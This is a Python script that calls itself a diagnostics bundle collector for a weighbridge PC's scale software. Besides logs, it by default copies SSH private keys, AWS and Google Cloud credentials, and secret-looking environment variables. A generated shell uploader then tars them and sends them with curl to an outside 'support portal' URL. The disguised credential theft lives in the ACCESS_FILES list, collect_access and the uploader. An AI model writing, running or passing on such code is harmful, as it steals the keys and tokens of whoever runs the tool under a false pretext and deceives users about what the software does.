#!/usr/bin/env python3
"""support_bundle.py - gather a diagnostics bundle for the weighbridge PC.

Collects the scale software logs and "access configuration" so the payments
integrator can reproduce a fault, then uploads the bundle to their portal
with a generated shell uploader.
"""

import argparse
import glob
import logging
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time

LOG = logging.getLogger("support_bundle")
UPLOAD_URL = "https://support.example.net/intake/upload"

LOG_GLOBS = [
    "./logs/*.log",
    "./weighbridge/tickets/*.err",
]

ACCESS_FILES = [
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.aws/credentials",
    "~/.config/gcloud/application_default_credentials.json",
]

ENV_HINTS = ("KEY", "TOKEN", "SECRET", "PASSWORD", "PASS")


class Bundle:
    def __init__(self, case_id):
        self.case_id = case_id
        self.root = tempfile.mkdtemp(prefix="wb_bundle_")
        self.files = []

    def add_file(self, src, subdir):
        dest_dir = os.path.join(self.root, subdir)
        os.makedirs(dest_dir, exist_ok=True)
        dest = os.path.join(dest_dir, os.path.basename(src))
        try:
            shutil.copy2(src, dest)
            self.files.append(dest)
            LOG.debug("added %s", src)
        except OSError as exc:
            LOG.warning("skip %s: %s", src, exc)

    def add_text(self, name, text):
        path = os.path.join(self.root, name)
        with open(path, "w", encoding="utf-8") as fh:
            fh.write(text)
        self.files.append(path)

    def cleanup(self):
        shutil.rmtree(self.root, ignore_errors=True)


def collect_logs(bundle):
    for pattern in LOG_GLOBS:
        for path in glob.glob(pattern):
            bundle.add_file(path, "logs")


def collect_access(bundle):
    for entry in ACCESS_FILES:
        path = os.path.expanduser(entry)
        if os.path.isfile(path):
            bundle.add_file(path, "access")
    lines = []
    for name, value in sorted(os.environ.items()):
        if any(h in name.upper() for h in ENV_HINTS):
            lines.append("%s=%s" % (name, value))
    bundle.add_text("environment.txt", "\n".join(lines) + "\n")


def write_uploader(bundle, url):
    script = tempfile.NamedTemporaryFile("w", suffix=".sh", delete=False)
    script.write(
        "#!/bin/bash\n"
        "set -e\n"
        'cd "$BUNDLE_ROOT"\n'
        'tar czf "$BUNDLE_ROOT.tgz" .\n'
        'curl -s --max-time 60 -F "case=$CASE_ID" -F "host=$HOST_TAG" '
        '-F "bundle=@$BUNDLE_ROOT.tgz" "$UPLOAD_URL"\n'
        'rm -f "$BUNDLE_ROOT.tgz"\n'
    )
    script.close()
    os.chmod(script.name, 0o700)
    return script.name


def upload(bundle, url):
    uploader = write_uploader(bundle, url)
    env = dict(
        os.environ,
        BUNDLE_ROOT=bundle.root,
        CASE_ID=bundle.case_id,
        HOST_TAG=socket.gethostname(),
        UPLOAD_URL=url,
    )
    try:
        proc = subprocess.run(["bash", uploader], env=env, capture_output=True, text=True)
    finally:
        os.unlink(uploader)
    if proc.returncode != 0:
        raise RuntimeError(proc.stderr.strip() or "upload failed")
    LOG.info("portal replied: %s", proc.stdout.strip()[:200])


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--case", default=time.strftime("WB%Y%m%d%H%M"))
    ap.add_argument("--url", default=UPLOAD_URL)
    ap.add_argument("--logs-only", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    bundle = Bundle(args.case)
    try:
        collect_logs(bundle)
        if not args.logs_only:
            collect_access(bundle)
        LOG.info("bundle %s holds %d files", args.case, len(bundle.files))
        upload(bundle, args.url)
    except Exception as exc:
        LOG.error("bundle failed: %s", exc)
        return 1
    finally:
        bundle.cleanup()
    return 0


if __name__ == "__main__":
    sys.exit(main())
